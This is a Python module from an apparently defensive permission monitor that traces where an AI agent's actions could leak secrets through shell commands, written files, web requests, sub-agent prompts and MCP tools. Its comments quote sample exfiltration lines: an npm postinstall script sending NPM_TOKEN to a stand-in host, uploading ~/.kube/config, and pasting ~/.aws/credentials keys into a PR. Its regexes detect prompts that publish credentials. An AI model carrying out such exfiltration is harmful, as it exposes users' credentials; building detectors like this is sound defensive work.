"""Every secret flow of one analysed action (issue 10 §5): `flows(a)`, which rules in `automode.rules.secrets` judge.

The facts (sources, sinks, owners of credentials) live in `automode.knowledge.flows`; the shell's wiring of them in
`automode.knowledge.flows_shell`. This module routes an action to them by tool: shell commands, written files, web
requests, sub-agent prompts and MCP tools that post.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

from automode import lazyre
from automode.effects import mcp_name
from automode.hosts import is_local
from automode.knowledge import telemetry
from automode.knowledge.flows import (
    KIND_SECRET,
    LOG_CALL,
    Flow,
    Secret,
    _client_lines,
    _committed,
    _host,
    _ships,
    env_secret,
    file_service,
    tables,
    values,
)
from automode.knowledge.flows_shell import _shell_flows
from automode.typing_lite import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from automode.analysis import Analysis

_LAST: list[tuple[Any, list[Flow]]] = [(None, [])]


def flows(a: Analysis) -> list[Flow]:
    last = _LAST[0]
    if last[0] is a:
        return last[1]
    out = list(_flows(a))
    _LAST[0] = (a, out)
    return out


def _flows(a: Analysis) -> Iterator[Flow]:
    from automode.analysis import AGENT_TOOLS, FILE_WRITE_TOOLS, WEB_TOOLS

    tool = a.action.tool
    if a.shell:
        yield from _shell_flows(a)
        yield from _delegate_flows(a)  # an agent started from the shell with a task (`claude -p "…"`)
    elif tool in FILE_WRITE_TOOLS:
        yield from _write_flows(a)
        if a.commands:
            # what a written file runs later (an npm lifecycle script, a Makefile recipe): its flows are the action's
            # (`"postinstall": "node -e \"…get('https://x/?u='+process.env.NPM_TOKEN)\""`, h8-0283)
            yield from _shell_flows(a)
    elif tool in WEB_TOOLS:
        for e in a.effects:
            if e.kind == "network":
                for s in values(e.target):
                    yield Flow(s, "url", _host(e.target))
    elif tool in AGENT_TOOLS:
        yield from _delegate_flows(a)
        if a.commands:
            yield from _shell_flows(a)  # the commands the prompt spells out (`analysis._delegated_commands`)
    elif tool.startswith("mcp__") or "__" in tool:
        yield from _delegate_flows(a)  # an agent behind MCP handed a prompt (`mcp__codex__codex`)
        name = mcp_name(tool)
        if tables().mcp_public.search(name) and not tables().mcp_read.search(name):
            try:
                text = json.dumps(dict(a.action.input), default=str)[:50_000]
            except (TypeError, ValueError):
                text = str(a.action.input)[:50_000]
            for s in values(text):
                yield Flow(s, "public", tool)


def _delegate_flows(a: Analysis) -> Iterator[Flow]:
    """Secrets a sub-agent's prompt carries or names, and where it is told to put them."""
    for e in a.effects:
        if e.kind == "delegate":
            prompt = e.content or ""
            found = values(prompt)
            publish = bool(found) and tables().publish_words.search(prompt[:20_000]) is not None
            for s in found:
                yield Flow(s, "delegate-send" if publish else "delegate", "others" if publish else e.target)
            yield from _delegated_sends(prompt, a)


PROMPT_PATH = lazyre.compile(
    r"(?<![\w/.])((?:~|\$HOME|/home/[\w.-]+|/Users/[\w.-]+|/root)/[\w./-]+|\.env(?:\.[\w-]+)?)\b"
)


PROMPT_URL = lazyre.compile(r"https?://[^\s'\"<>)]+")


_SENTENCE_END = lazyre.compile(r"[.!?;](?=\s|$)|\n")


def _sentence_of(text: str, at: int) -> str:
    """The sentence of `text` around index `at` (a dot inside a word, `config/master.key`, ends none)."""
    start = 0
    for m in _SENTENCE_END.finditer(text):
        if m.end() <= at:
            start = m.end()
        else:
            return text[start : m.start()]
    return text[start:]


#: A sentence of a prompt that tells the sub-agent to put something where others read it: a verb of copying it out and
#: a place of a forge, a tracker, a chat or a document ("paste them into the PR description", "include the value in
#: the issue", "post it in #infra").
PROMPT_PUBLIC_SINK = lazyre.compile(
    r"(?i)\b(?:paste|include|copy|dump|insert|embed|attach|quote|put|post|share|send|print|echo)\b(?:[^.!?\n]|[.!?](?=\S)){0,120}?"
    r"\b(?:in|into|to|on|as|inside)\s+(?:the\s+|a\s+|an\s+|our\s+|my\s+|its\s+|your\s+|this\s+|that\s+)?(?:new\s+)?"
    r"(?:pr|pull[- ]request|mr|merge[- ]request|issue|comment|commit(?:\s+message)?|(?:pr\s+|pull[- ]request\s+)?(?:description|body)|"
    r"gist|paste(?:bin)?|slack|#[\w-]+|channel|discord|teams|e-?mail|wiki|readme|changelog|release\s+notes|discussion|forum|"
    r"tweet|ticket|jira|linear|confluence|notion|status\s+page|public\s+\w+)\b")
#: The same with a verb that takes its object close by ("add it to the issue body", "write the token into the
#: description"): only a short object between, so "add .env to .gitignore and note it in the PR" is no such sentence.
PROMPT_PUBLIC_ADD = lazyre.compile(
    r"(?i)\b(?:add|write|append|leave|drop|stick|place)\s+(?:\S+\s+){0,4}?(?:in|into|to|on|inside)\s+(?:the\s+|a\s+|an\s+|our\s+|"
    r"my\s+|its\s+|your\s+|this\s+|that\s+)?(?:new\s+)?(?:pr|pull[- ]request|mr|merge[- ]request|issue|comment|commit(?:\s+message)?|"
    r"(?:pr\s+|pull[- ]request\s+|issue\s+)?(?:description|body)|gist|slack|#[\w-]+|channel|discord|e-?mail|wiki|readme|"
    r"discussion|forum|ticket)\b")
_PROMPT_NEGATED = lazyre.compile(r"(?i)\b(?:don'?t|do\s+not|never|without|avoid|exclude|excluding|redact\w*|mask\w*|"
                                 r"not\s+(?:include|paste|post|put|add)|placeholder|instead\s+of)\b")
#: A credential named by its kind, with a word that makes it its value ("the actual API key", "the token's value").
_PROMPT_SECRET_VALUE = lazyre.compile(
    r"(?i)\b(?:values?|contents?|raw|actual|real|full|plaintext)\b[^.!?\n]{0,40}\b(?:api[- ]?keys?|tokens?|passwords?|"
    r"secrets?|credentials?|private\s+keys?|connection\s+strings?|keys)\b|\b(?:api[- ]?keys?|tokens?|passwords?|secrets?|"
    r"credentials?|private\s+keys?|connection\s+strings?)\b[^.!?\n]{0,20}\b(?:values?|contents?|itself|themselves|in\s+full)\b")
#: Words that point back at what the sentence before named ("paste them", "include its contents", "the keys").
_PROMPT_BACK = lazyre.compile(r"(?i)\b(?:them|it|its|their|those|these|the\s+(?:keys?|values?|contents?|tokens?|"
                              r"credentials?|secrets?|passwords?|file))\b")
_PROMPT_ENV = lazyre.compile(r"\$?\b([A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+|[A-Z]{3,})\b")
_PROMPT_FILE = lazyre.compile(r"(?<![\w/])((?:~|\.{1,2})?/?[\w.-]*[\w-]+(?:/[\w.-]+)*)")


def _prompt_secrets(prompt: str, a: Analysis) -> list[Secret]:
    """The credentials a prompt names: secret files (`~/.aws/credentials`, `.env`, `config/master.key`) and
    credential variables (`DATABASE_URL`, `$STRIPE_SECRET_KEY`)."""
    from automode.knowledge.flows import secret_env_name
    from automode.paths import is_secret_path, resolve

    out: list[Secret] = []
    for m in _PROMPT_FILE.finditer(prompt[:20_000]):
        word = m.group(1)
        if ("/" in word or word.startswith(".")) and len(word) > 3:
            p = resolve(word, a.cwd, a.ctx.home)
            if is_secret_path(p, a.ctx.home):
                out.append(Secret(word, file_service(p), "file"))
    for m in _PROMPT_ENV.finditer(prompt[:20_000]):
        if "_" in m.group(1) and secret_env_name(m.group(1)):
            out.append(Secret(f"${m.group(1)}", "", "env"))
    return out


def _delegated_sends(prompt: str, a: Analysis) -> Iterator[Flow]:
    """A sub-agent told, in prose, to send credential files somewhere: `tar ~/.kube/config … upload to https://x`, or
    to put a credential where others read it ("read ~/.aws/credentials and paste the keys into the PR description")."""
    from automode.paths import is_secret_path, resolve

    found = [*PROMPT_PUBLIC_SINK.finditer(prompt[:20_000]), *PROMPT_PUBLIC_ADD.finditer(prompt[:20_000])]
    sinks = [m for m in found if not _PROMPT_NEGATED.search(_sentence_of(prompt, m.start()))]
    for m in sinks:
        said = _sentence_of(prompt, m.start())
        window = said
        if _PROMPT_BACK.search(said):  # "Read ~/.aws/credentials. Paste them into the PR": the sentence before
            before = prompt[: max(0, prompt.find(said))].rstrip(" .!?;\n")
            window = _sentence_of(before, len(before)) + " " + said if before else said
        named = _prompt_secrets(window, a)
        if named:
            yield Flow(named[0], "delegate-send", "others")
            return
        if _PROMPT_SECRET_VALUE.search(said):
            yield Flow(Secret(_PROMPT_SECRET_VALUE.search(said).group(0), "", "value"), "delegate-send", "others")  # type: ignore[union-attr]
            return
    urls = [u for u in PROMPT_URL.findall(prompt[:20_000]) if not is_local(_host(u))]
    if not urls:
        return
    for m in PROMPT_PATH.finditer(prompt[:20_000]):
        p = resolve(m.group(1), a.cwd, a.ctx.home)
        if is_secret_path(p, a.ctx.home):
            yield Flow(Secret(m.group(1), file_service(p), "file"), "delegate-send", _host(urls[0]))
            return


#: Calls of error-reporting and analytics SDKs that attach data to what they send (Sentry setContext/setExtra(s)/
#: setTag(s)/setUser/configureScope and `sentry_sdk.set_*`, Bugsnag/Rollbar/Honeybadger metadata, PostHog/Segment/
#: Mixpanel/Amplitude events, New Relic custom attributes, LogRocket), given the whole environment (`process.env`,
#: `os.environ`, `ENV.to_h`, `System.getenv()`).
REPORTED_ENV = lazyre.compile(
    r"\b((?:Sentry|sentry_sdk|sentry|scope)\.(?:setContext|setExtras?|setTags?|setUser|set_context|set_extras?|set_tags?|"
    r"set_user|configureScope|configure_scope)|(?:Bugsnag|bugsnag|Rollbar|rollbar|Honeybadger|honeybadger)\.\w+|"
    r"(?:posthog|analytics|mixpanel|amplitude|LogRocket|newrelic)\.\w+)\s*\([^\n]{0,200}?"
    r"(?:\.\.\.\s*process\.env\b(?![.\[])|process\.env\s*[,)}]|dict\(os\.environ\)|\*\*os\.environ|os\.environ\s*[,)]|"
    r"ENV\.to_h|System\.getenv\(\))")  # fmt: skip


#: Logging and printing calls of every language (Go log/slog/zap/logrus/fmt, .NET ILogger `LogInformation`/Console,
#: Elixir Logger/IO, Rust tracing and print macros, Swift print/NSLog/os_log, PHP error_log/echo/Log::, Kotlin/Java
#: loggers, Ruby puts/Rails.logger), whose line is read for an environment variable named like a credential.
LOG_VERB = lazyre.compile(r"\b(?:[Ll]og(?:ger|ging)?|_logger|slog|zap|logrus|Logger|Log::\w+|error_log|var_dump|print_r|echo|NSLog|os_log|"
                          r"Console\.Write(?:Line)?|IO\.(?:puts|inspect|write)|(?:tracing::|log::)?(?:info|warn|error|debug|trace)!|"
                          r"e?println!|e?print!|dbg!|print|puts|printf|fmt\.\w*Print\w*)\b")


def _logged_env(text: str) -> Iterator[Secret]:
    from automode.shell.codeflow import ENV_READ_RE

    low = text.lower()
    if "env" not in low and "$_server" not in low:
        return  # every environment reader is spelled with one of these
    for m in LOG_VERB.finditer(text):
        end = text.find("\n", m.end())
        seg = text[m.end():end if end != -1 else len(text)][:240]
        for r in ENV_READ_RE.finditer(seg):
            name = next((g for g in r.groups() if g), "")
            s = env_secret(name) if name else None
            if s is not None:
                yield s


def _write_flows(a: Analysis) -> Iterator[Flow]:
    for e in a.effects:
        if e.kind != "write" or not e.content:
            continue
        text = e.content
        yield from _client_lines(text)
        if e.pclass in ("project", "protected") or (e.pclass == "secret" and _committed(e, a.root)):
            ships = _ships(e, a.root) and KIND_SECRET.search(text) is None  # a Secret object is where the value belongs
            for s in values(text):
                yield Flow(s, "file", e.target, ships=ships)
            seen: set[str] = set()
            for m in LOG_CALL.finditer(text):
                logged = env_secret(m.group(4))
                if logged is not None:
                    seen.add(logged.what)
                    yield Flow(logged, "log", e.target)
            for logged in _logged_env(text):  # every language's loggers and environment readers
                if logged.what not in seen:
                    seen.add(logged.what)
                    yield Flow(logged, "log", e.target)
            reported = REPORTED_ENV.search(text)
            if reported is not None:
                # the whole environment attached to every crash report or analytics event: to the vendor's servers
                yield Flow(Secret("the whole environment", "", "env"), "public", f"{reported.group(1)} in {e.target}")
            elif (vendor := telemetry.reported_env(text)) is not None:
                # the same in any language and in configuration (`config.add_metadata(:env, ENV.to_h)`, a before-send
                # hook copying `System.getenv()`, OpenTelemetry resource attributes from `os.Environ()`)
                yield Flow(Secret("the whole environment", "", "env"), "public", f"{vendor} configuration in {e.target}")
